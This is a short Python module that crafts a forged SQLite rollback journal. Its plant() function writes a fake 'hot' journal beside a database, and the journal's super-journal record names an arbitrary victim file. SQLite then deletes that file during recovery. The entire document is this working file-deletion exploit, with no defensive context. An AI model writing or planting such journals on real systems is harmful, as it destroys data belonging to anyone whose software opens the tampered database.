"""A rollback journal that makes SQLite delete the file that it names as its super-journal."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512


def plant(database: Path, victim: Path) -> Path:
    """Put a hot journal beside a database that makes SQLite delete ``victim``; returns the journal."""
    head = database.read_bytes()[:100]
    size = int.from_bytes(head[16:18], "big")
    pages = int.from_bytes(head[28:32], "big")
    header = _MAGIC + struct.pack(">IIIII", 0, 7, pages, _SECTOR, size)
    name = str(victim).encode()
    super_journal = struct.pack(">I", 2**30 // size + 1) + name
    super_journal += struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(header.ljust(_SECTOR, b"\0") + super_journal)
    return journal
